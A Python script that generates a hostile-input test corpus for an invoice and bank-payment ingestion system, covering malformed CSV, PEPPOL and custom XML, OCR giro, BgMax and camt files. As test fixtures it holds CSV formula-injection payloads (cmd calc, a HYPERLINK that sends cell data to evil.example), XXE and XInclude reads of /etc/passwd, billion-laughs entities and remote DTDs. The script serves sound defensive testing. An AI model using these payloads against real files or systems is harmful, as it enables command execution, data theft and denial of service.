#!/usr/bin/env python3
"""Writes the hostile input corpus: tests/data/hostile/<sender>/<name>.

Python 3, standard library only, same bytes every run:

    python3 tests/data/hostile/make_corpus.py

Every file it writes must have a row in expected.csv (tests/it/hostile.rs checks both ways).
Cases that would make the repository big or that git cannot carry (multi-megabyte lines, very
long names, links, FIFOs, sockets) are made by the tests at run time instead; README.md lists
them.
"""
import gzip
import os
import shutil

HERE = os.path.dirname(os.path.abspath(__file__))
BOM = b"\xef\xbb\xbf"
written = []


def write(sender, name, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    folder = os.path.join(HERE, sender)
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data)
    written.append(f"{sender}/{name}")


# ---------------------------------------------------------------------------------------------
# nordlys: canonical CSV, `;`, decimal comma, UTF-8, creditor 923609016 (NO, kid-mod10)

HEADER = "creditor_id;invoice_no;customer_no;debtor_type;debtor_name;address;postcode;city;issue_date;due_date;currency;amount"


def row(no, name="Kari Nordmann", amount="1 000,00", customer=None, address="Storgata 1", city="Tromsø"):
    customer = customer or f"C{no}"
    return f"923609016;{no};{customer};person;{name};{address};9008;{city};2026-09-01;2026-09-15;NOK;{amount}"


def csv(*rows, header=HEADER, end="\n"):
    return end.join([header, *rows]) + end


# Truncated uploads: CSV has no end marker, so only the row that was cut shows.
write("nordlys", "truncated-mid-row.csv",
      csv(row("T1-1"), row("T1-2")) + row("T1-3")[:60])
write("nordlys", "truncated-in-open-quote.csv",
      csv(row("T2-1")) + '923609016;T2-2;C1;person;"Kari Nordm')
cut = (csv(row("T3-1")) + row("T3-2", city="Tromsø")).encode()
write("nordlys", "truncated-mid-utf8-char.csv", cut[: cut.rindex("ø".encode()) + 1])

# Wrong encodings for a UTF-8 sender.
write("nordlys", "windows-1252-smart-quotes.csv",
      csv(row("E1-1")).encode() + row("E1-2", name="“Kari” Nordmann").encode("cp1252") + b"\n")
write("nordlys", "utf16le-bom.csv", b"\xff\xfe" + csv(row("E2-1")).encode("utf-16-le"))
write("nordlys", "utf16be-bom.csv", b"\xfe\xff" + csv(row("E3-1")).encode("utf-16-be"))
write("nordlys", "invalid-utf8-overlong.csv",
      csv(row("E4-1"), row("E4-2", address="Storgata 1/2")).encode().replace(b"1/2", b"1\xc0\xaf2"))
write("nordlys", "invalid-utf8-surrogate.csv",
      csv(row("E5-1")).encode() + row("E5-2").encode().replace(b"Kari", b"K\xed\xa0\x80ari") + b"\n")

# BOMs in odd places.
write("nordlys", "double-bom.csv", BOM + BOM + csv(row("B1-1")).encode())
write("nordlys", "bom-only.csv", BOM)
write("nordlys", "bom-mid-file-concatenated-export.csv",
      csv(row("B2-1"), row("B2-2")).encode() + BOM + csv(row("B2-3")).encode())
write("nordlys", "bom-at-start-of-row.csv",
      csv(row("B3-1")).encode() + BOM + row("B3-2").encode() + b"\n")

# Binary junk and text with control characters.
write("nordlys", "png-named-csv.csv",
      b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
      b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
write("nordlys", "gzip-of-valid-csv.csv.gz",
      gzip.compress(csv(row("G1-1")).encode(), mtime=0))
write("nordlys", "elf-executable.csv",
      b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(range(256)))
write("nordlys", "nul-in-first-row.csv", csv(row("N1-1", name="Kari\x00Nordmann")))
write("nordlys", "nul-after-4k.csv",
      csv(*[row(f"N2-{i}") for i in range(1, 41)], row("N2-41", name="Kari\x00Nordmann")))
write("nordlys", "newline-and-tab-inside-quoted-name.csv",
      csv(row("Q1-1"), row("Q1-2", name='"Kari\nNordmann"'), row("Q1-3", address='"Storgata\t1"')))
write("nordlys", "cr-only-line-ends.csv", csv(row("Q2-1"), row("Q2-2"), end="\r"))
write("nordlys", "escape-sequences-in-name.csv",
      csv(row("Q3-1", name="Kari \x1b[31mNordmann\x1b[0m"), row("Q3-2")))

# CSV injection payloads in text fields: accepted, and guarded in every outbound CSV
# (tests/it/hostile.rs follows them into the status, letters and reconciliation files). The
# files are numbered so that they are applied in this order (same arrival: name order).
write("nordlys", "formula-1-invoices.csv", csv(
    row('"=HYPERLINK(""http://evil.example/""&A1)"', name="=cmd|' /C calc'!A0", customer="F-1"),
    row("+4790000000", name="+SUM(1+1)*cmd|' /C calc'!A0", address="-2+3+cmd|' /C calc'!A0", customer="F-2"),
    row("-1042", name="@SUM(1+1)", city="=1+1", customer="F-3"),
    row("F-4", name="\t=1+2", address='"\r=3+4"', customer="F-4"),
    row("F-5", customer="F-5"),
    row("F-6", customer="F-6"),
))
write("nordlys", "formula-2-instructions.csv",
      "instruction_id;creditor_id;invoice_no;action;reason\n"
      "=HYPERLINK(\"http://evil.example\");923609016;F-5;dispute;=cmd|' /C calc'!A0\n"
      "@INS-2;923609016;F-6;pause;-2+3\n")
write("nordlys", "formula-3-direct-payments.csv",
      "payment_id;kind;creditor_id;invoice_no;amount;currency;payment_date;payer_name\n"
      "=1+1;direct;923609016;+4790000000;100,00;NOK;2026-09-30;=cmd|' /C calc'!A0\n")
write("bank", "formula-payments.csv",
      "payment_id;reference;amount;currency;payment_date;payer_name;payer_account\n"
      "-HYPERLINK(1);=1+1;250,00;NOK;2026-09-30;@SUM(1+1);+4712345678\n")

# Duplicates and odd names (the content is valid: only the name or the resend is hostile).
write("nordlys", "dup-original.csv", csv(row("D1-1")))
write("nordlys", "dup-resent.csv", csv(row("D1-1")))
write("nordlys", "-rf.csv", csv(row("S1-1")))
write("nordlys", "--help.csv", csv(row("S2-1")))
write("nordlys", "name with  spaces .csv", csv(row("S3-1")))
write("nordlys", "fæøå-ÆØÅ-Tromsø.csv", csv(row("S4-1")))
write("nordlys", "emoji-💸-faktura.csv", csv(row("S5-1")))
write("nordlys", "=1+2.csv", csv(row("S6-1")))
write("nordlys", "no-extension", csv(row("S7-1")))

# Oversized: the corpus test lowers max_file_bytes to 32 KiB; this file is over it.
write("nordlys", "over-size-limit.csv",
      csv(*[row(f"O1-{i:04}") for i in range(1, 421)]))

# ---------------------------------------------------------------------------------------------
# fjellstua: native export, windows-1252, DD.MM.YYYY

FJ_HEADER = "Kundenr;Kundenavn;Kundetype;Orgnr/Fnr;Adresse;Postnr;Poststed;Fakturanr;Fakturadato;Forfallsdato;Beløp;KID"


def fj_row(no, name="Kari Nordmann"):
    return f"7{no};{name};Privat;;Bjørkvegen 3;7340;Oppdal;{no};01.09.2026;15.09.2026;1 000,00;"


write("fjellstua", "utf8-without-bom.csv", f"{FJ_HEADER}\r\n{fj_row(40001, 'Åse Kjærstad')}\r\n".encode())
write("fjellstua", "utf8-with-bom.csv", BOM + f"{FJ_HEADER}\r\n{fj_row(40002, 'Åse Kjærstad')}\r\n".encode())
write("fjellstua", "utf16le-bom.csv", b"\xff\xfe" + f"{FJ_HEADER}\r\n{fj_row(40003)}\r\n".encode("utf-16-le"))
write("fjellstua", "formula-payloads.csv", (
    f"{FJ_HEADER}\r\n"
    + fj_row(40004, "=cmd|' /C calc'!A0") + "\r\n"
    + fj_row(40005, "@SUM(1+1)") + "\r\n"
).encode("cp1252"))

# ---------------------------------------------------------------------------------------------
# kvarnby: PEPPOL BIS 3 (creditor 5566778899, SE, SEK, se-ocr)

UBL_INV = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
UBL_CN = "urn:oasis:names:specification:ubl:schema:xsd:CreditNote-2"
CAC = "urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
CBC = "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"


def peppol(no, buyer="Johanna Lindqvist", root="Invoice", ns=UBL_INV, cbc=CBC, prolog='<?xml version="1.0" encoding="UTF-8"?>\n',
           extra="", city="Mölndal"):
    return f"""{prolog}<{root} xmlns="{ns}"
         xmlns:cac="{CAC}"
         xmlns:cbc="{cbc}">
  <cbc:CustomizationID>urn:cen.eu:en16931:2017#compliant#urn:fdc:peppol.eu:2017:poacc:billing:3.0</cbc:CustomizationID>
  <cbc:ID>{no}</cbc:ID>
  <cbc:IssueDate>2026-09-01</cbc:IssueDate>
  <cbc:DueDate>2026-09-15</cbc:DueDate>
  <cbc:DocumentCurrencyCode>SEK</cbc:DocumentCurrencyCode>{extra}
  <cac:AccountingSupplierParty>
    <cac:Party>
      <cac:PartyLegalEntity>
        <cbc:RegistrationName>Kvarnby Bygg AB</cbc:RegistrationName>
        <cbc:CompanyID schemeID="0007">5566778899</cbc:CompanyID>
      </cac:PartyLegalEntity>
    </cac:Party>
  </cac:AccountingSupplierParty>
  <cac:AccountingCustomerParty>
    <cac:Party>
      <cac:PartyIdentification>
        <cbc:ID>K-{no}</cbc:ID>
      </cac:PartyIdentification>
      <cac:PostalAddress>
        <cbc:StreetName>Stensjövägen 22</cbc:StreetName>
        <cbc:CityName>{city}</cbc:CityName>
        <cbc:PostalZone>43145</cbc:PostalZone>
        <cac:Country>
          <cbc:IdentificationCode>SE</cbc:IdentificationCode>
        </cac:Country>
      </cac:PostalAddress>
      <cac:PartyLegalEntity>
        <cbc:RegistrationName>{buyer}</cbc:RegistrationName>
      </cac:PartyLegalEntity>
    </cac:Party>
  </cac:AccountingCustomerParty>
  <cac:LegalMonetaryTotal>
    <cbc:PayableAmount currencyID="SEK">1250.00</cbc:PayableAmount>
  </cac:LegalMonetaryTotal>
</{root}>
"""


full = peppol("H-PX-1")
write("kvarnby", "peppol-cut-mid-element.xml", full[: full.index("<cbc:RegistrationName>Johanna") + 30])
write("kvarnby", "peppol-doctype-external-entity.xml", peppol(
    "H-PX-2", buyer="&xxe;",
    prolog='<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE Invoice [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'))
laughs = "".join(
    f'  <!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">\n' for i in range(1, 10))
write("kvarnby", "peppol-billion-laughs.xml", peppol(
    "H-PX-3", buyer="&lol9;",
    prolog=f'<?xml version="1.0"?>\n<!DOCTYPE Invoice [\n  <!ENTITY lol0 "lol">\n{laughs}]>\n'))
write("kvarnby", "peppol-external-dtd-lowercase.xml", peppol(
    "H-PX-4", prolog='<?xml version="1.0"?>\n<!doctype Invoice SYSTEM "http://evil.example/ubl.dtd">\n'))
write("kvarnby", "peppol-undeclared-entity.xml", peppol("H-PX-5", buyer="Johanna &xxe; Lindqvist"))
write("kvarnby", "peppol-nul-char-reference.xml", peppol("H-PX-6", buyer="Johanna&#0;Lindqvist"))
write("kvarnby", "peppol-root-in-foreign-namespace.xml", peppol("H-PX-7", ns="urn:example:not-ubl:Invoice-2"))
write("kvarnby", "peppol-cbc-prefix-spoofed.xml", peppol("H-PX-8", cbc="urn:example:evil:CommonBasicComponents-2"))
write("kvarnby", "peppol-creditnote-root-in-invoice-namespace.xml", peppol("H-PX-9", root="CreditNote", ns=UBL_INV))
write("kvarnby", "peppol-in-kravflyt-namespace.xml", peppol("H-PX-10", ns="urn:kravflyt:xml:1"))
deep = "<cbc:Note>" + "<x>" * 100 + "deep" + "</x>" * 100 + "</cbc:Note>"
write("kvarnby", "peppol-deep-nesting.xml", peppol("H-PX-11", extra="\n  " + deep))
write("kvarnby", "peppol-bom-before-declaration.xml", BOM + peppol("H-PX-12").encode())
write("kvarnby", "peppol-latin1-undeclared.xml", peppol("H-PX-13").encode("cp1252"))
write("kvarnby", "peppol-latin1-declared.xml",
      peppol("H-PX-14", prolog='<?xml version="1.0" encoding="ISO-8859-1"?>\n').encode("cp1252"))
write("kvarnby", "peppol-utf16le-bom.xml",
      b"\xff\xfe" + peppol("H-PX-15", prolog='<?xml version="1.0" encoding="UTF-16"?>\n').encode("utf-16-le"))
write("kvarnby", "peppol-two-roots.xml", peppol("H-PX-16") + peppol("H-PX-17", prolog=""))
write("kvarnby", "peppol-formula-buyer.xml", peppol("H-PX-18", buyer="=HYPERLINK(&quot;http://evil.example&quot;)",
                                                    city="@SUM(1+1)"))
write("kvarnby", "peppol-processing-instruction-and-comments.xml", peppol(
    "H-PX-19", prolog='<?xml version="1.0"?>\n<?xml-stylesheet href="http://evil.example/x.xsl"?>\n<!-- exported by ERP -->\n',
    extra="\n  <!-- &xxe; <x> -->\n  <?evil data?>"))
write("kvarnby", "peppol-doctype-inside-comment.xml", peppol(
    "H-PX-20", prolog='<?xml version="1.0"?>\n<!-- <!DOCTYPE Invoice SYSTEM "http://evil.example/x.dtd"> -->\n'))

# ---------------------------------------------------------------------------------------------
# revontuli: kravflyt XML (creditor 2345678-0, FI, EUR, fi-ref)


def kx_invoice(no, inner=""):
    return f"""  <invoice>
    <creditor_id>2345678-0</creditor_id>
    <invoice_no>{no}</invoice_no>
    <customer_no>R{no}</customer_no>
    <debtor_type>person</debtor_type>
    <debtor_name>Aino Kettunen</debtor_name>
    <address>Koskikatu 5</address>
    <postcode>96200</postcode>
    <city>Rovaniemi</city>
    <issue_date>2026-09-01</issue_date>
    <due_date>2026-09-15</due_date>
    <currency>EUR</currency>
    <amount>645.00</amount>{inner}
  </invoice>
"""


def kx(*invoices, root="invoices", prolog='<?xml version="1.0" encoding="UTF-8"?>\n', attrs=""):
    return f'{prolog}<{root} xmlns="urn:kravflyt:xml:1"{attrs}>\n{"".join(invoices)}</{root}>\n'


cut = kx(kx_invoice("H-RX-1"), kx_invoice("H-RX-2"))
write("revontuli", "kravflyt-cut-mid-element.xml", cut[: cut.index("<debtor_name>", cut.index("H-RX-2")) + 8])
write("revontuli", "kravflyt-receipt-fed-back.xml",
      '<?xml version="1.0" encoding="UTF-8"?>\n<receipt xmlns="urn:kravflyt:xml:1">\n'
      "  <file_name>x.xml</file_name>\n  <status>accepted</status>\n</receipt>\n")
write("revontuli", "kravflyt-xinclude.xml", kx(
    kx_invoice("H-RX-3", inner='\n    <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    kx_invoice("H-RX-4")))
write("revontuli", "kravflyt-doctype-parameter-entity.xml", kx(
    kx_invoice("H-RX-5"),
    prolog='<?xml version="1.0"?>\n<!DOCTYPE invoices [\n  <!ENTITY % remote SYSTEM "http://evil.example/x.dtd">\n  %remote;\n]>\n'))
write("revontuli", "kravflyt-peppol-root-in-kravflyt-namespace.xml", peppol("H-RX-6", ns="urn:kravflyt:xml:1"))
write("revontuli", "kravflyt-undeclared-prefix.xml", kx(kx_invoice("H-RX-7", inner="\n    <evil:x>1</evil:x>")))
write("revontuli", "kravflyt-entity-in-attribute.xml", kx(kx_invoice("H-RX-8"), attrs=' note="&xxe;"'))
write("revontuli", "kravflyt-huge-values-and-cdata.xml", kx(
    kx_invoice("H-RX-9").replace("Aino Kettunen", "<![CDATA[</invoice><invoice>" + "A" * 300 + "]]>"),
    kx_invoice("H-RX-10")))
write("revontuli", "kravflyt-text-in-root.xml", kx(kx_invoice("H-RX-11")).replace("<invoice>", "smuggled text\n  <invoice>", 1))
write("revontuli", "kravflyt-duplicate-column.xml", kx(
    kx_invoice("H-RX-12", inner="\n    <amount>0.01</amount>"), kx_invoice("H-RX-13")))

# ---------------------------------------------------------------------------------------------
# bank: Nets OCR giro, Bankgirot BgMax, camt.054


def ocr_lines(amounts, assignment, date="290926", sign="0", kid="1234567897"):
    """A valid transmission with one assignment of type 10 transactions (see scripts/gen-ocr-giro.py)."""
    lines = ["NY000010" + f"{8080:08}{1:07}{8080:08}" + "0" * 49]
    lines.append(f"NY090020001008566{assignment:07}99991042764" + "0" * 45)
    total = 0
    for n, amount in enumerate(amounts, 1):
        lines.append(f"NY091030{n:07}{date}1320101464{sign}{amount:017}{kid:>25}000000")
        lines.append(f"NY091031{n:07}0000000000{n:09}0000000{date}99991005524" + "0" * 22)
        total += amount
    lines.append(f"NY090088{len(amounts):08}{len(amounts) * 2 + 2:08}{total:017}{date}{date}{date}" + "0" * 21)
    lines.append(f"NY000089{len(amounts):08}{len(lines) + 1:08}{total:017}{date}" + "0" * 33)
    for line in lines:
        assert len(line) == 80, (len(line), line)
    return lines


def text(lines, end="\n"):
    return end.join(lines) + end


ocr = ocr_lines([50000, 25000], 1)
write("bank", "ocr-no-end-records.txt", text(ocr[:-2]))
bad = list(ocr)
bad[-1] = bad[-1][:8] + "00000003" + bad[-1][16:]
write("bank", "ocr-wrong-transaction-count.txt", text(bad))
bad = list(ocr)
bad[-2] = bad[-2][:24] + f"{75001:017}" + bad[-2][41:]
write("bank", "ocr-wrong-assignment-sum.txt", text(bad))
bad = list(ocr)
bad[2] = bad[2][:79]
write("bank", "ocr-record-79-chars.txt", text(bad))
bad = list(ocr)
bad[3] = bad[3] + "X"
write("bank", "ocr-record-81-chars.txt", text(bad))
bad = list(ocr)
bad[4] = bad[4][:6] + "99" + bad[4][8:]
write("bank", "ocr-unknown-record-type.txt", text(bad))
bad = list(ocr)
bad[2] = bad[2][:32] + "0000000000005O000" + bad[2][49:]
write("bank", "ocr-amount-not-digits.txt", text(bad))
bad = list(ocr)
bad[2] = bad[2][:31] + "X" + bad[2][32:]
write("bank", "ocr-sign-not-a-sign.txt", text(bad))
write("bank", "ocr-negative-giro-payment.txt", text(ocr_lines([50000], 2, sign="-", kid="1234567905")))
write("bank", "ocr-two-transmissions-concatenated.txt",
      text(ocr_lines([10000], 3, kid="1234567913")) + text(ocr_lines([20000], 4, kid="1234567921")))
write("bank", "ocr-transactions-after-end.txt", text(ocr_lines([10000], 5, kid="1234567939") + ocr[2:4]))
write("bank", "ocr-bom-mid-file.txt",
      text(ocr[:3]).encode() + BOM + text(ocr[3:]).encode())
write("bank", "ocr-nul-padding-after-end.txt", text(ocr_lines([30000], 6, kid="1234567947")).encode() + b"\x00" * 512)
write("bank", "ocr-date-not-a-date.txt", text(ocr_lines([40000], 7, date="310226", kid="1234567954")))


def pad(line):
    assert len(line) <= 80, (len(line), line)
    return line.ljust(80)


def bgmax_lines(payments, test_mark="P", layout="01", deposit_count=None, end_counts=None):
    lines = [pad(f"01BGMAX               {layout}20260929061844120417{test_mark}"),
             pad("050057204315          SEK")]
    total = 0
    for n, (ref, amount) in enumerate(payments, 1):
        lines.append(pad(f"20005013762{n}{ref:<25}{amount:018}22{n:012}0"))
        lines.append(pad("26Hisingens Fastighetsförvaltning AB"))
        total += amount
    count = len(payments) if deposit_count is None else deposit_count
    lines.append(pad(f"15{'0' * 24}53511023456" + f"20260929{1:05}{total:018}SEK{count:08}"))
    counts = end_counts or (len(payments), 0, 0, 1)
    lines.append(pad("70" + "".join(f"{c:08}" for c in counts)))
    return lines


bg = bgmax_lines([("70000001415", 400000), ("1405045103", 84375)])
write("bank", "bgmax-no-end-record.txt", text(bg[:-1]))
write("bank", "bgmax-deposit-count-wrong.txt", text(bgmax_lines([("70000001415", 400000)], deposit_count=2)))
write("bank", "bgmax-end-counts-wrong.txt", text(bgmax_lines([("70000001415", 400000)], end_counts=(3, 0, 0, 1))))
bad = list(bg)
bad[3] = pad("99 unknown record type")
write("bank", "bgmax-unknown-record-type.txt", text(bad))
bad = list(bg)
bad[2] = bad[2][:37] + "00000000000004OOOO" + bad[2][55:]
write("bank", "bgmax-amount-not-digits.txt", text(bad))
write("bank", "bgmax-test-file.txt", text(bgmax_lines([("70000001415", 400000)], test_mark="T")))
write("bank", "bgmax-layout-version-02.txt", text(bgmax_lines([("70000001415", 400000)], layout="02")))
write("bank", "bgmax-deposit-after-end.txt", text(bg + bg[1:]))


def camt(entries, ns="urn:iso:std:iso:20022:tech:xsd:camt.054.001.08", message="BkToCstmrDbtCdtNtfctn"):
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="{ns}">
  <{message}>
    <GrpHdr><MsgId>H-MSG</MsgId><CreDtTm>2026-09-30T21:00:00+02:00</CreDtTm></GrpHdr>
    <Ntfctn>
      <Id>H-NTF</Id>
      <Acct><Id><IBAN>NO9386011117947</IBAN></Id></Acct>
{"".join(entries)}    </Ntfctn>
  </{message}>
</Document>
"""


def entry(ref, amount="500.00", ind="CRDT", status="BOOK", tx_ind=None):
    tx = f"<CdtDbtInd>{tx_ind}</CdtDbtInd>" if tx_ind else ""
    ind_el = f"<CdtDbtInd>{ind}</CdtDbtInd>" if ind is not None else ""
    return f"""      <Ntry>
        <Amt Ccy="NOK">{amount}</Amt>
        {ind_el}
        <Sts><Cd>{status}</Cd></Sts>
        <BookgDt><Dt>2026-09-30</Dt></BookgDt>
        <AcctSvcrRef>{ref}</AcctSvcrRef>
        <NtryDtls><TxDtls>
          <Refs><AcctSvcrRef>{ref}-T</AcctSvcrRef></Refs>
          <Amt Ccy="NOK">{amount}</Amt>{tx}
          <RmtInf><Strd><CdtrRefInf><Ref>1234567962</Ref></CdtrRefInf></Strd></RmtInf>
        </TxDtls></NtryDtls>
      </Ntry>
"""


write("bank", "camt-debit-where-credit-expected.xml", camt([entry("H-C1", ind="DBIT")]))
write("bank", "camt-debit-detail-in-credit-entry.xml", camt([entry("H-C2", tx_ind="DBIT"), entry("H-C3")]))
write("bank", "camt-negative-credit-amount.xml", camt([entry("H-C4", amount="-500.00"), entry("H-C5")]))
write("bank", "camt-missing-credit-debit-indicator.xml", camt([entry("H-C6", ind=None), entry("H-C7")]))
write("bank", "camt-unknown-credit-debit-indicator.xml", camt([entry("H-C8", ind="CRDTX"), entry("H-C9")]))
write("bank", "camt-052-report.xml", camt([entry("H-C10")], ns="urn:iso:std:iso:20022:tech:xsd:camt.052.001.08",
                                          message="BkToCstmrAcctRpt"))
write("bank", "camt-without-message-element.xml", camt([entry("H-C11")], message="Unexpected"))
write("bank", "camt-amount-not-a-number.xml", camt([entry("H-C12", amount="5e2"), entry("H-C13", amount="1,000.00")]))

# ---------------------------------------------------------------------------------------------
# desk: instructions, all-or-nothing (on_invalid_record = "reject_file")

write("desk", "mixed-kinds-header.csv",
      "instruction_id;debtor_name;creditor_id;invoice_no;action\nI-1;Kari;923609016;1;pause\n")
write("desk", "comma-delimited.csv",
      "instruction_id,creditor_id,invoice_no,action\nI-2,923609016,1,pause\n")

if __name__ == "__main__":
    known = set(written)
    for sender in sorted(os.listdir(HERE)):
        folder = os.path.join(HERE, sender)
        if not os.path.isdir(folder):
            continue
        for name in sorted(os.listdir(folder)):
            if f"{sender}/{name}" not in known:
                print(f"not written by this script (left as it is): {sender}/{name}")
    print(f"{len(written)} files")
